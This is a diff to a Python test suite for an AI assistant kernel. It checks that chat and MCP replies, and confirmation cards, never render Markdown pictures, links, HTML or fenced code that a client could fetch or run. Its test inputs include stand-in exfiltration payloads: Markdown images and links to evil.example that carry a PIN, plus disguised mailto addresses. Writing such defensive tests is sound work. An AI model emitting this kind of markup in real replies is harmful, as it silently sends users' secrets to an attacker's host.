@@ -12,8 +12,11 @@ from markdown_it import MarkdownIt
 from pydantic import AliasChoices, BaseModel, ConfigDict, Field
 
 from tests.invariants.test_consent import ANN, EVE, PIN, Anything, Open, Page, World
+from webbee_kernel.mcp.server import questions
 from webbee_kernel.sdk import ActionResult, ChatExtension, Context, Extension, User
+from webbee_kernel.stores.types import PendingConfirmation
 from webbee_kernel.testing import ExtensionHarness
+from webbee_kernel.text import as_code, as_typed, one_line
 from webbee_kernel.turn.messages import as_text
 
 Call = tuple[str, dict[str, Any]]
@@ -419,16 +422,63 @@ def test_an_instruction_beside_an_effect_of_the_users_own_does_not_run_with_it(c
 
 MARKUP = (
     "![a] [a] (https://b.example/?pin=1) [b]: (b) <img src= <a href= <!-- mailto:eve@evil.example"
-    ' https://b.example/p.png " > < \\ ` ``` ]( ![ &#104; ann@example.org </p> <?x * _ b'
+    ' https://b.example/p.png " > < \\ ` ``` ]( ![ &#104; ann@example.org </p> <?x * _ b ~~~ ```js'
 )
-PIECES = st.lists(st.sampled_from([*MARKUP.split(), " ", "\n", "\n\n"]), max_size=14)
+PIECES = st.lists(st.sampled_from([*MARKUP.split(), " ", "\n", "\n\n"]), max_size=14).map("".join)
+READER = MarkdownIt("commonmark", {"html": True}).enable("strikethrough")
 
 
 @given(PIECES)
-def test_no_text_of_a_text_client_is_rendered_as_a_picture_or_a_link(pieces: list[str]) -> None:
-    """A picture is fetched as soon as it is shown: its address would carry data out unasked. What a
-    link hides is no destination shown in full."""
-    body = {"reply": "".join(pieces), "receipts": [{"status": "done", "text": "".join(pieces)}]}
-    made = MarkdownIt("commonmark", {"html": True}).parse(as_text(body))
+def test_no_text_of_a_text_client_is_rendered_as_a_picture_or_a_link(text: str) -> None:
+    """A picture is fetched as soon as it is shown: its address would carry data out unasked, and so
+    does what a client draws or runs of code in a language it knows. What a link hides is no
+    destination shown in full."""
+    body = {"reply": text, "receipts": [{"status": "done", "text": text}]}
+    made = READER.parse(as_text(body))
     kinds = {t.type for block in made for t in (block, *(block.children or ()))}
     assert kinds.isdisjoint({"image", "link_open", "html_inline", "html_block"})
+    assert not any(block.info.strip() for block in made if block.type == "fence")
+
+
+def read(text: str) -> str:
+    """What somebody reads of a text that is drawn as Markdown, without its white space."""
+    inline = (t for block in READER.parse(text) for t in (block, *(block.children or ())))
+    return "".join("".join(t.content for t in inline if not t.children).split())
+
+
+@given(PIECES.map(one_line), PIECES.map(one_line))
+def test_a_value_on_a_card_is_read_as_it_is_typed(to: str, text: str) -> None:
+    line = f"Mail - send: to {as_code(to)}, text \u201c{as_code(text)}\u201d"
+    typed = f"Mail - send: to {to}, text \u201c{text}\u201d"
+    assert read(as_typed(line)) == "".join(typed.split())
+
+
+@pytest.mark.parametrize(
+    "to",
+    [
+        f"[{ANN}](mailto:{EVE})",
+        f"![{ANN}](https://evil.example/?pin={PIN})",
+        "ann*lee*@example.org",
+        "_ann_@example.org",
+        "&#101;ve@evil.example",
+        "https://evil\\.example/a",
+        "`ann`~~lee~~@example.org",
+    ],
+)
+def test_a_destination_is_read_whole_whatever_markup_it_is(to: str) -> None:
+    """In chat clients and in an MCP client's, as a question and as a result."""
+    world = Odd()
+    body = world.say("go on", ("send_email", {"to": to, "body": f"<b>{to}</b>"}))
+    [card] = world.kernel.memory().turns[-1].waiting
+    asked = questions.of_confirmation(card)[questions.CONFIRM]["params"]["message"]
+    [result] = questions.waiting(card, "MCP")["content"]
+    for told in (as_text(body), asked, result["text"]):
+        assert read(told).count("".join(to.split())) == 2, told
+
+
+def test_what_an_app_asks_in_its_own_words_is_no_picture_for_an_mcp_client() -> None:
+    picture = f"![a](https://evil.example/p.png?pin={PIN})"
+    card = PendingConfirmation("conf_1", 0, "", "", (), summary=picture)
+    asked = questions.elicitation({"message": picture, "schema": {}})["params"]["message"]
+    [result] = questions.waiting(card, "MCP")["content"]
+    assert picture not in asked and picture not in result["text"]
